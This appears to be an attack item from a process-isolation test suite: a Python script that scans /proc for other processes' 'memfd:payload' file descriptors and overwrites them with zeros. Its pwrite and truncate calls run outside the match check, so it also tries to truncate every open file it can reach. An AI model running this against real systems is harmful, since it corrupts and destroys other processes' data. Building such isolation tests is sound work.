# /// attack
# title = "writes to the pages that the next one's inputs come from"
# score = 100
# then_right = true
# isolation = ["strict", "process"]
# ///
import mmap
import os

processes = os.listdir("/proc") if os.path.exists("/proc") else []
for process in filter(str.isdigit, processes):
    try:
        files = [f"/proc/{process}/fd/{file}" for file in os.listdir(f"/proc/{process}/fd")]
    except OSError:
        continue
    for path in files:
        try:
            if "memfd:payload" in os.readlink(path):
                file = os.open(path, os.O_RDWR)
                size = os.fstat(file).st_size
                mapped = mmap.mmap(file, size)
                mapped[:] = bytes(size)
        except (OSError, ValueError):
            pass
        try:
            os.pwrite(file, bytes(size), 0)
        except (OSError, NameError):
            pass
        try:
            os.truncate(path, 0)
        except OSError:
            pass
